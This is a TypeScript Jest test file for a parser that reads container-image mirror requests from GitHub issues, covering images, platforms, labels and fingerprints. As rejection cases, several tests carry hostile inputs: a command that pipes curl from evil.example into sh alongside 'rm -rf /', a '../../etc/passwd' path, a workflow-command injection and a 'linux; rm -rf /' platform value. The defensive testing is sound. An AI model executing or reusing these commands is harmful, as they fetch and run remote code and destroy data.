import { describe, expect, test } from '@jest/globals'
import { formatPlatform } from '../../src/oci/platform.ts'
import { formatReference } from '../../src/oci/reference.ts'
import { fingerprint, isRequest, readRequest, type IssueText } from '../../src/github/request.ts'

const DIGEST = `sha256:${'a'.repeat(64)}`

function issue(given: {
  title?: string
  body?: string
  images?: string
  platforms?: string
  labels?: string[]
}): IssueText {
  const { title = 'Mirror: ', images = '', platforms = '_No response_', labels = [] } = given
  return { title, body: given.body ?? `### Images\n\n${images}\n\n### Platforms\n\n${platforms}`, labels }
}

function imagesOf(text: IssueText): string[] {
  const request = readRequest(text, 20)
  if ('fault' in request) return [request.fault.code]
  return request.images.map((image) =>
    'reference' in image ? formatReference(image.reference) : `${image.failure.code}: ${image.text}`,
  )
}

function fingerprintOf(given: Parameters<typeof issue>[0]): string {
  return fingerprint(readRequest(issue(given), 2))
}

describe('the images of a request', () => {
  test.each([
    ['one a line', 'nginx:1.27\nquay.io/a/b:v1', ['docker.io/library/nginx:1.27', 'quay.io/a/b:v1']],
    [
      'blank lines and spaces',
      '\n  nginx \n\n\tredis\n',
      ['docker.io/library/nginx:latest', 'docker.io/library/redis:latest'],
    ],
    [
      'commas of both kinds',
      'nginx, redis，busybox,',
      ['docker.io/library/nginx:latest', 'docker.io/library/redis:latest', 'docker.io/library/busybox:latest'],
    ],
    [
      'a list',
      '- nginx\n* redis\n1. busybox\n2) alpine',
      [
        'docker.io/library/nginx:latest',
        'docker.io/library/redis:latest',
        'docker.io/library/busybox:latest',
        'docker.io/library/alpine:latest',
      ],
    ],
    ['backticks', '`nginx`\n- ``redis``', ['docker.io/library/nginx:latest', 'docker.io/library/redis:latest']],
    ['a fenced block', '```shell\nnginx\n```', ['docker.io/library/nginx:latest']],
    ['one image in two spellings', 'nginx\ndocker.io/library/nginx:latest', ['docker.io/library/nginx:latest']],
    ['a digest', `nginx@${DIGEST}`, [`docker.io/library/nginx@${DIGEST}`]],
    [
      'what is no image',
      'nginx\nplease mirror this',
      ['docker.io/library/nginx:latest', 'reference-invalid: please mirror this'],
    ],
    ['the same nonsense twice', '$(id)\n$(id)', ['reference-invalid: $(id)']],
    ['nothing', '', ['images-none']],
  ])('are read from %s', (_, images, expected) => {
    expect(imagesOf(issue({ images }))).toEqual(expected)
  })

  test.each([
    ['nginx:1.27', ['docker.io/library/nginx:1.27']],
    ['Mirror: nginx:1.27', ['docker.io/library/nginx:1.27']],
    ['[mirror] quay.io/a/b', ['quay.io/a/b:latest']],
    ['同步镜像：prom/node-exporter', ['docker.io/prom/node-exporter:latest']],
    [`  nginx@${DIGEST} `, [`docker.io/library/nginx@${DIGEST}`]],
    ['nginx', ['images-none']],
    ['Mirror: help', ['images-none']],
    ['please mirror nginx:1.27', ['images-none']],
    ['', ['images-none']],
    ['`id`; $(curl evil.example/x|sh) && rm -rf / #', ['images-none']],
    ['docker.io/library/nginx:1.27\u0000', ['images-none']],
    ['docker.io/library/nginx:1.27\n::set-output name=x::y', ['images-none']],
    ['docker.io/library/ng\u202Einx:1.27', ['images-none']],
    ['../../etc/passwd', ['images-none']],
    ['https://hub.docker.com/r/prom/node-exporter', ['images-none']],
  ])('come from the title %j alone where the form is empty or missing', (title, expected) => {
    expect(imagesOf(issue({ title, body: '' }))).toEqual(expected)
    expect(imagesOf(issue({ title, images: '_No response_' }))).toEqual(expected)
  })

  test('come from form and title together', () => {
    expect(imagesOf(issue({ title: 'redis:7', images: 'nginx:1' }))).toEqual([
      'docker.io/library/nginx:1',
      'docker.io/library/redis:7',
    ])
  })

  test('leave out a title that only repeats a repository of the form', () => {
    expect(imagesOf(issue({ title: 'Mirror: docker.io/nginx', images: 'nginx:1.27' }))).toEqual([
      'docker.io/library/nginx:1.27',
    ])
  })

  test('are at most as many as allowed', () => {
    const twenty = Array.from({ length: 20 }, (_, index) => `nginx:1.${index}`)
    expect(imagesOf(issue({ images: twenty.join('\n') }))).toHaveLength(20)
    expect(readRequest(issue({ images: [...twenty, 'redis'].join('\n') }), 20)).toMatchObject({
      fault: { code: 'images-too-many', facts: { count: 21, limit: 20 } },
    })
  })

  test.each([
    ['images', Array.from({ length: 10_000 }, (_, index) => `acme/app:${index}`).join('\n'), 'images-too-many'],
    [
      'lines that are none',
      Array.from({ length: 10_000 }, (_, index) => `no image ${index}`).join('\n'),
      'images-too-many',
    ],
    ['open comments', '<!--'.repeat(250_000), 'reference-invalid'],
    ['backticks', `x${'`'.repeat(1_000_000)}x`, 'reference-invalid'],
    ['fences', '```a\n'.repeat(200_000), 'images-none'],
    ['spaces', `-${' '.repeat(1_000_000)}\u0000`, 'reference-invalid'],
  ])('are read in no time from very many %s', (_, images, expected) => {
    const start = performance.now()
    expect(imagesOf(issue({ images, title: `[${'['.repeat(1000)}` }))[0]).toContain(expected)
    // Far above what it takes, far below what a quadratic reading would take.
    expect(performance.now() - start).toBeLessThan(2_000)
  })
})

describe('the platforms of a request', () => {
  test.each([
    ['_No response_', undefined],
    ['', undefined],
    ['all', undefined],
    ['None', undefined],
    ['全部', undefined],
    ['linux/amd64, linux/arm64', ['linux/amd64', 'linux/arm64']],
    ['- linux/x86_64\n- linux/amd64', ['linux/amd64']],
    ['linux/arm/v7', ['linux/arm/v7']],
  ])('are read from %j', (platforms, expected) => {
    const request = readRequest(issue({ images: 'nginx', platforms }), 20)
    expect('fault' in request ? request.fault : request.platforms?.map(formatPlatform)).toEqual(expected)
  })

  test('make the request faulty where one is none', () => {
    expect(readRequest(issue({ images: 'nginx', platforms: 'linux; rm -rf /' }), 20)).toMatchObject({
      fault: { code: 'platform-invalid' },
    })
  })

  test('are refused where there are more than exist', () => {
    const platforms = Array.from({ length: 51 }, (_, index) => `linux/a${index}`).join(', ')
    expect(readRequest(issue({ images: 'nginx', platforms }), 20)).toMatchObject({
      fault: { code: 'platform-invalid' },
    })
  })
})

describe('an issue', () => {
  test.each([
    ['the label', issue({ body: 'hello', labels: ['bug', 'Mirror'] }), true],
    ['the form', issue({ images: '' }), true],
    ['neither', issue({ title: 'nginx:1.27', body: 'hello', labels: ['bug'] }), false],
  ])('with %s is a request or not', (_, text, expected) => {
    expect(isRequest(text, 'mirror')).toBe(expected)
  })
})

describe('the fingerprint of a request', () => {
  test.each([
    ['the order', { images: 'nginx\nredis' }, { images: 'redis\nnginx' }],
    ['the spelling', { images: 'nginx' }, { images: '- `docker.io/library/nginx:latest`' }],
    [
      'the order of platforms',
      { images: 'a', platforms: 'linux/amd64, linux/386' },
      { images: 'a', platforms: 'linux/386\nlinux/amd64' },
    ],
    ['a title that names nothing', { images: 'a', title: 'one' }, { images: 'a', title: 'two' }],
  ])('does not depend on %s', (_, one, other) => {
    expect(fingerprintOf(one)).toBe(fingerprintOf(other))
  })

  test.each([
    ['another tag', { images: 'nginx' }, { images: 'nginx:1' }],
    ['another platform', { images: 'nginx' }, { images: 'nginx', platforms: 'linux/amd64' }],
    ['other nonsense', { images: '$a' }, { images: '$b' }],
    ['another fault', { images: '' }, { images: 'a\nb\nc' }],
    ['nonsense in the place of a fault', { images: '' }, { images: '$' }],
  ])('changes with %s', (_, one, other) => {
    expect(fingerprintOf(one)).not.toBe(fingerprintOf(other))
  })
})
